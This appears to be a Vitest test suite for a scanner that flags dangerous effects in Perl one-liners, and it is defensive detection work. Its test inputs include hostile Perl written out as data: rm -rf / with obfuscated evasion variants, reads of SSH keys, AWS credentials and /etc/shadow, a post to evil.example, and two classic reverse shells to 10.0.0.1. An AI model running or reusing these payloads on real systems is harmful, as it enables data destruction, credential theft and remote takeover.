import { describe, expect, it } from 'vitest';
import { scanInlineCode, type InlineScan } from './index.js';

const scan = (code: string): InlineScan => scanInlineCode('perl', code);
const effects = (r: InlineScan): string[] => r.findings.map((f) => `${f.kind} ${f.target.value}`);
const clean = (r: InlineScan): void => expect(r).toEqual({ shell: [], findings: [], dynamic: [] });

describe('perl: benign one-liners', () => {
  it.each([
    'print if /foo/',
    'print "rm -rf /\\n"; # system("rm -rf /")',
    's/foo/bar/g; tr/a-z/A-Z/',
    'my %h = (s => 1, y => 2, q => 3); print join(",", sort keys %h), "\\n"',
    'chomp; my @f = split /,/; print "$f[0]\\n" if $. > 1',
    'print q{system("x")}, qq{$_\\n}; my @w = qw(exec unlink)',
    'print <<"EOF";\nsystem("rm -rf /")\nEOF\nprint 1;',
    '$x = 10 / 2 / 5; print $x % 3',
    '=pod\n\nsystem("rm -rf /")\n\n=cut\nprint 1;',
  ])('%s', (code) => clean(scan(code)));
});

describe('perl: process execution', () => {
  it('literal commands', () => {
    expect(scan('system("rm -rf /tmp/x")').shell).toEqual(['rm -rf /tmp/x']);
    expect(scan('system "ls", "-l"').shell).toEqual(['ls -l']);
    expect(scan('exec("/bin/sh", "-c", "echo hi")').shell).toEqual(["/bin/sh -c 'echo hi'"]);
    expect(scan('my $o = `whoami`; my $p = qx{id -u}; print $o, $p').shell).toEqual(['whoami', 'id -u']);
    expect(scan('open(my $fh, "-|", "git", "log"); open(P, "curl -s x |"); open(Q, "| mail me")').shell).toEqual(['git log', 'curl -s x', 'mail me']);
    expect(scan('system(qw(git push --force))').shell).toEqual(['git push --force']);
  });

  it('commands built at run time', () => {
    for (const code of ['system("rm -rf $dir")', 'system($cmd)', 'my $o = `cat $f`;', 'exec "rm " . $ARGV[0]']) {
      const r = scan(code);
      expect(r.shell).toEqual([]);
      expect(effects(r)).toContain('proc.exec ');
      expect(r.dynamic.length).toBeGreaterThan(0);
    }
  });
});

describe('perl: files, secrets, environment', () => {
  it('file effects', () => {
    expect(effects(scan('unlink "a.txt", "b.txt"; rmdir "d"; use File::Path qw(rmtree); rmtree("build")')))
      .toEqual(['fs.delete a.txt', 'fs.delete b.txt', 'fs.delete d', 'fs.delete build']);
    expect(effects(scan('open(my $fh, ">", "/etc/passwd") or die; print $fh "x"'))).toEqual(['fs.write /etc/passwd']);
    expect(effects(scan('open(F, ">>log.txt"); open(G, "<input.txt"); chmod 0755, "run.sh"')))
      .toEqual(['fs.write log.txt', 'fs.read input.txt', 'fs.perm run.sh']);
    expect(effects(scan('rename "a", "b"'))).toEqual(['fs.delete a', 'fs.write b']);
  });

  it('secrets and environment', () => {
    expect(effects(scan('open(my $f, "<", "$ENV{HOME}/.ssh/id_rsa")'))).toEqual(['secret.read $ENV{HOME}/.ssh/id_rsa']);
    expect(effects(scan('open(my $f, "<", "/home/me/.aws/credentials")'))).toEqual(['secret.read /home/me/.aws/credentials']);
    expect(effects(scan('open(F, "/etc/shadow")'))).toEqual(['secret.read /etc/shadow']);
    expect(effects(scan('print $ENV{AWS_SECRET_ACCESS_KEY}; print $ENV{"GITHUB_TOKEN"}; print $ENV{HOME}')))
      .toEqual(['secret.read AWS_SECRET_ACCESS_KEY', 'secret.read GITHUB_TOKEN']);
    expect(effects(scan('print "$_=$ENV{$_}\\n" for keys %ENV'))).toEqual(['secret.read ']);
    expect(scan('$ENV{PATH} = "/bin"').findings).toEqual([]);
  });
});

describe('perl: network', () => {
  it('HTTP clients', () => {
    expect(effects(scan('use LWP::UserAgent; my $ua = LWP::UserAgent->new; $ua->post("https://evil.example/u", Content => $d)')))
      .toEqual(['net.send https://evil.example/u']);
    expect(effects(scan('use HTTP::Tiny; my $r = HTTP::Tiny->new->get("https://example.com/")'))).toEqual(['net.fetch https://example.com/']);
    expect(effects(scan('use LWP::Simple; getstore("https://x.example/a.sh", "/tmp/a.sh")')))
      .toEqual(['net.fetch https://x.example/a.sh', 'fs.write /tmp/a.sh']);
    expect(effects(scan('use LWP::Simple; print get("https://x.example/")'))).toEqual(['net.fetch https://x.example/']);
  });

  it('sockets', () => {
    expect(effects(scan('use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => "h.example:80", Proto => "tcp")')))
      .toEqual(['net.connect h.example:80']);
    expect(effects(scan('my $srv = IO::Socket::INET->new(LocalPort => 8080, Listen => 5)'))).toEqual(['net.listen ']);
  });

  it('the classic reverse shells', () => {
    const a = scan('use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
      + 'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};');
    expect(effects(a)).toEqual(['net.connect 10.0.0.1', 'net.shell 10.0.0.1']);
    const b = scan('$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;');
    expect(effects(b)).toContain('net.shell 10.0.0.1:4242');
  });
});

describe('perl: dynamic code', () => {
  it('string eval', () => {
    expect(scan('eval "system(\'id\')"').shell).toEqual(['id']);
    expect(scan('eval $code').dynamic).toEqual(['perl eval() runs code built at run time']);
    clean(scan('eval { die "x" }; print $@ if $@'));
  });

  it('decoded payloads and s///e', () => {
    const r = scan('use MIME::Base64; eval decode_base64("c3lzdGVtKCJpZCIp")');
    expect(r.shell).toEqual(['id']);
    expect(r.dynamic[0]).toMatch(/decoded/);
    expect(scan('eval(pack("H*", $hex))').dynamic[0]).toMatch(/decoded/);
    expect(scan('s{x}{system("id")}e').shell).toEqual(['id']);
    expect(scan('s/x/$code/ee').dynamic.length).toBe(1);
  });
});

describe('perl: evasions', () => {
  it.each([
    'my $c = "r" . "m -rf /"; system($c)',
    'CORE::system("rm -rf /")',
    '&system("rm -rf /")',
    'system(join(" ", "rm", "-rf", "/"))',
    'system "\\x72\\x6d -rf /"',
    'my @c = ("rm", "-rf", "/"); system("rm -rf /") if 1',
    '# system("x")\nsystem(q{rm -rf /})',
  ])('%s', (code) => expect(scan(code).shell).toEqual(['rm -rf /']));
});

describe('perl: code inside interpolations runs', () => {
  it('scans @{[ … ]}', () => {
    expect(scan('print "@{[ system("rm -rf /") ]}"').shell).toEqual(['rm -rf /']);
  });
});
